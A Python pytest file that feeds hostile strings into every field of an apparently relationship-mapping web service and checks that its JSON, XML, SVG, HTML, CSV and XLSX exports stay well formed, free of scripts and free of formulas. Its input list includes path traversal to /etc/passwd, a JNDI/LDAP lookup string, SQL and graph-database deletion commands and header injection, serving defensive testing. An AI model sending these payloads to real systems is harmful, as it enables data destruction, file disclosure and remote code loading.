"""Hostile texts in every field, and every output that shows them: well formed each, nothing runs, no cell is a formula."""

import io
import json
import re
import xml.etree.ElementTree as ElementTree
import zipfile
from collections import Counter
from html.parser import HTMLParser

import pytest
from openpyxl import load_workbook

from app.service import Service
from tests.browser.injections import injections
from tests.faults.service import ROUNDS
from tests.faults.told import tell
from tests.setup.client import Client

pytestmark = pytest.mark.timeout(0)

MORE = (
    "\x00", "a\x00b", "\x1b[31m", "\u202eabc", "\u2066x\u2069", "\ufeff", "\u2028", "\u0085", "é" * 500, "𠜎𠜱", "ﷺ", "Z\u0351\u036b\u0343",
    "null", "NaN", "-0", "1e999", "true", "../../etc/passwd", "..\\..\\x", "%00", "%s%n%x", "{0}", "${jndi:ldap://injected.invalid/x}",
    "'; DROP TABLE x; --", "MATCH (n) DETACH DELETE n", "\\", '"', "'", "`", "]]>", "&amp;", "\r\nSet-Cookie: a=b",
    "BEGIN:VEVENT\r\nEND:VCALENDAR", "x\ty\nz", " ", "",
)  # fmt: skip
FIELDS = {
    "/organizations/bank": ("name", "industry", "region"),
    "/departments/it": ("name", "function"),
    "/people/cio": ("name", "names", "title", "style", "background", "email", "phone", "former_email"),
    "/projects/lake": ("name", "review", "currency"),
    "/interactions/met": ("summary",),
    "/assessments/seen": ("evidence",),
    "/favours/done": ("note",),
    "/expectations/wish": ("text",),
    "/resources/lab": ("name",),
}
JSON = (
    "/people/cio", "/people/cio/card", "/people/cio/reach", "/people", "/organizations/bank/coverage", "/organizations/bank/influence",
    "/organizations/bank/map", "/projects/lake/chain", "/projects/lake/map", "/diagnosis", "/todo?person=all", "/ledger", "/resources/map",
    "/search?q=a", "/audit", "/export?format=json", "/export?format=cytoscape",
)  # fmt: skip
XML = ("/export?format=graphml", "/export?format=gexf")
DRAWN = ("/saved/organizations/bank?format=svg", "/saved/projects/lake?format=svg", "/saved/people/cio/routes?format=svg")
PAGES = ("/saved/organizations/bank?format=html", "/saved/projects/lake?format=html")


def seed(client: Client) -> None:
    """One of everything."""
    for path, body in (
        ("/organizations", {"id": "us", "name": "Us", "kind": "ours"}),
        ("/organizations", {"id": "bank", "name": "Bank", "kind": "customer"}),
        ("/departments", {"id": "it", "name": "IT", "organization": "bank"}),
        ("/people", {"id": "ann", "name": "Ann", "organization": "us"}),
        ("/people", {"id": "cio", "name": "Cio", "organization": "bank", "department": "it"}),
        ("/projects", {"id": "lake", "name": "Lake", "customer": "bank"}),
        ("/ties", {"type": "KNOWS", "from": "ann", "to": "cio", "strength": 70, "stated_on": "2026-11-01"}),
        ("/ties", {"type": "DECIDES_ON", "from": "cio", "to": "lake", "role": "decider"}),
        ("/interactions", {"id": "met", "at": "2026-11-02", "participants": ["ann", "cio"], "summary": "met"}),
        ("/assessments", {"id": "seen", "subject": "person:cio", "at": "2026-11-03", "stance": 1, "evidence": "seen"}),
        ("/favours", {"id": "done", "giver": "ann", "receiver": "cio", "at": "2026-11-04", "value": 1, "note": "n"}),
        ("/expectations", {"id": "wish", "person": "cio", "text": "t", "due": "2026-12-31"}),
        ("/resources", {"id": "lab", "name": "Lab", "kind": "lab"}),
    ):
        answer = client.post(path, body)
        assert answer.status_code == 201, (path, answer.text)


_ADDRESSES = ("href", "src", "action", "formaction", "xlink:href", "data", "srcdoc", "poster", "background")


class Scripts(HTMLParser):
    """What a page would run or load: scripts with text of their own, event attributes, addresses."""

    def __init__(self) -> None:
        super().__init__()
        self.found: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.found += [f"{tag} {name}" for name, _ in attrs if name.startswith("on")]
        addresses = [value for name, value in attrs if name in _ADDRESSES and value]
        self.found += [f"{tag} {one}" for one in addresses if re.match(r"\s*(javascript|vbscript|data:text)", one, re.I)]
        self.found += [f"{tag} {one}" for one in addresses if "injected.invalid" in one]


def test_no_text_breaks_an_output_or_runs_in_it(client: Client, graph: Service) -> None:
    seed(client)
    every = [*MORE, *injections()]
    texts = every[:: max(1, len(every) // ROUNDS)]
    counted, wrong = Counter[str](), list[str]()
    for text in texts:
        for path, fields in FIELDS.items():
            for field in fields:
                status = client.patch(path, {field: text}).status_code
                counted["kept" if status == 200 else "refused"] += 1
                wrong += [f"{path} {field} {text!r}: {status}"] if status not in (200, 400, 409, 422) else []
        wrong += [f"{text!r}: {one}" for one in _outputs(client, counted)]
    tell("hostile texts", texts=len(texts), fields=sum(map(len, FIELDS.values())), counted=counted)
    assert not wrong, f"{len(wrong)}: {wrong[:10]}"


def _outputs(client: Client, counted: Counter[str]) -> list[str]:
    """Everything shown once; what of it is wrong."""
    wrong: list[str] = []

    def read(path: str) -> bytes:
        answer = client.http.get(path if path.startswith("/saved") else f"/api/v1{path}")
        counted["outputs"] += 1
        if answer.status_code != 200:
            wrong.append(f"{path}: {answer.status_code} {answer.text[:100]}")
        return answer.content

    for path in JSON:
        json.loads(read(path))
    for path in (*XML, *DRAWN):
        try:
            root = ElementTree.fromstring(read(path))
        except ElementTree.ParseError as fault:
            wrong.append(f"{path}: {fault}")
            continue
        runs = (one.tag for one in root.iter() if one.tag.endswith("}script") or any(name.startswith("on") for name in one.attrib))
        wrong += [f"{path}: {tag}" for tag in runs]
    for path in PAGES:
        page = Scripts()
        page.feed(read(path).decode())
        wrong += [f"{path}: {one}" for one in page.found]
    return wrong + _sheets(read("/export?format=csv"), read("/export?format=xlsx"))


def _sheets(csv: bytes, xlsx: bytes) -> list[str]:
    wrong: list[str] = []
    with zipfile.ZipFile(io.BytesIO(csv)) as archive:
        for name in archive.namelist():
            rows = archive.read(name).decode("utf-8-sig")
            wrong += [f"{name}: {cell}" for cell in re.findall(r'(?:^|,)"?([=+@-][^",\d][^",]*)', rows, re.M)]
    for sheet in load_workbook(io.BytesIO(xlsx)).worksheets:
        wrong += [f"{sheet.title}: {cell.value}" for row in sheet.iter_rows() for cell in row if cell.data_type == "f"]
    return wrong
